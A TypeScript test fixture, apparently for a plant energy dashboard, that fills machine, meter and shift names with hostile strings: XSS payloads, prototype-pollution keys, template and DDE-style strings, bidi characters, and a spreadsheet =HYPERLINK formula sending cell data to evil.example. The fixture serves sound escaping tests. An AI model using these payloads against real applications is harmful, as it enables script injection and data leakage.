/** A plant in which everything that has a name is hostile: fifteen days of minutes, and a start of all machines at one change of shift. */
import type { PlantMap } from '../../src/influx';
import type { EmbeddedColumn } from './embedded-influx';

const MINUTE_MS = 60_000;
const DAY_MINUTES = 1440;
const DAYS = 16;
const BASE_KW = 100;

const HOSTILE_START_MS = Date.UTC(2025, 2, 3);
/** Last day, from ten to half past ten: all machines run, an hour before and after none does. */
const HERO_MINUTE = (DAYS - 1) * DAY_MINUTES + 600;
export const HERO = { startMs: HOSTILE_START_MS + HERO_MINUTE * MINUTE_MS, endMs: HOSTILE_START_MS + (HERO_MINUTE + 30) * MINUTE_MS };

interface Machine {
  readonly id: string;
  readonly on: string;
  readonly off: string;
  /** What it draws while on. */
  readonly kw: number;
}

/** Largest first. What each name tries: a prototype, markup, an order of its own, a template, a formula, a link, length, invisible signs. */
export const MACHINES: readonly Machine[] = [
  { id: '__proto__', on: 'constructor', off: 'hasOwnProperty', kw: 60 },
  { id: '<img src=x onerror="window.hacked=1">', on: '<script>window.hacked=1</script>', off: '</td></table><svg onload="window.hacked=1">', kw: 45 },
  { id: 'מכבש 7', on: 'חימום', off: 'כבוי', kw: 34 },
  { id: '\u202emill\u2066 99 kW', on: '\u202eHOT', off: '\u2067OFF', kw: 25 },
  { id: '${spike} $__interval {{7*7}} %27', on: '${__user.login}', off: '[[meter]]', kw: 19 },
  { id: '=HYPERLINK("https://evil.example/?"&A1,"gain")', on: '=1+1|cmd', off: '@SUM(A1)', kw: 14 },
  { id: 'javascript:window.hacked=1', on: '[a](javascript:window.hacked=1)', off: 'data:text/html,<script>window.hacked=1</script>', kw: 11 },
  { id: `long ${'x'.repeat(300)} end`, on: 'W'.repeat(200), off: 'OFF', kw: 9 },
  { id: 'o\u200bven\n=2+2\t"\'`\\ 😀', on: 'ON\u0000\u00ad', off: 'OFF\r\n', kw: 8 },
];

export const METER_ID = 'incomer <b>1</b> "א"';
export const LINE = '"><script>window.hacked=1</script>';
export const SHIFT = '<b onclick="window.hacked=1">early</b>';
export const CREW = '\u202e"><iframe src="javascript:window.hacked=1">';

export const HOSTILE_MAP: PlantMap = {
  zone: 'UTC',
  meters: [{ id: METER_ID, line: LINE, measurement: '<meter>', field: 'kW "now"', tags: { 'me ter': `'1' \\` }, kind: 'power', parent: null }],
  machines: [{ measurement: '__proto__', field: 'constructor', idTag: 'hasOwnProperty', tags: {}, meter: METER_ID, line: LINE }],
  shifts: { measurement: '</shift>', field: 'shift', tags: {} },
};

/** Minutes of each period in which a machine runs: coprime, so that each is seen alone. */
const PERIODS = [307, 353, 401, 449, 503, 557, 229, 263, 193];

function isOn(machine: number, minute: number): boolean {
  if (minute >= HERO_MINUTE - 60 && minute < HERO_MINUTE + 90) {
    return minute >= HERO_MINUTE && minute < HERO_MINUTE + 30;
  }
  return (minute + 37 * machine) % (PERIODS[machine] ?? 1) < 25;
}

/** As the built-in InfluxDB holds it. */
export function hostileColumns(): EmbeddedColumn[] {
  const minutes = Array.from({ length: DAYS * DAY_MINUTES }, (_, minute) => minute);
  const timeMs = minutes.map((minute) => HOSTILE_START_MS + minute * MINUTE_MS);
  const demand = minutes.map((minute) => BASE_KW + Math.sin(12.9898 * minute) + MACHINES.reduce((kw, machine, i) => kw + (isOn(i, minute) ? machine.kw : 0), 0));
  const [map] = HOSTILE_MAP.meters;
  const states = MACHINES.map(({ id, on, off }, i): EmbeddedColumn => {
    const changes = minutes.filter((minute) => minute === 0 || isOn(i, minute) !== isOn(i, minute - 1));
    return { measurement: '__proto__', tags: { hasOwnProperty: id }, field: 'constructor', timeMs: changes.map((minute) => timeMs[minute] ?? NaN), values: changes.map((minute) => (isOn(i, minute) ? on : off)) };
  });
  const shiftMs = [HERO.startMs - 8 * 60 * MINUTE_MS, HERO.startMs];
  return [
    { measurement: '<meter>', tags: map?.tags ?? {}, field: 'kW "now"', timeMs, values: demand },
    ...states,
    { measurement: '</shift>', tags: {}, field: 'shift', timeMs: shiftMs, values: ['night', SHIFT] },
    { measurement: '</shift>', tags: {}, field: 'crew', timeMs: shiftMs, values: ['', CREW] },
  ];
}
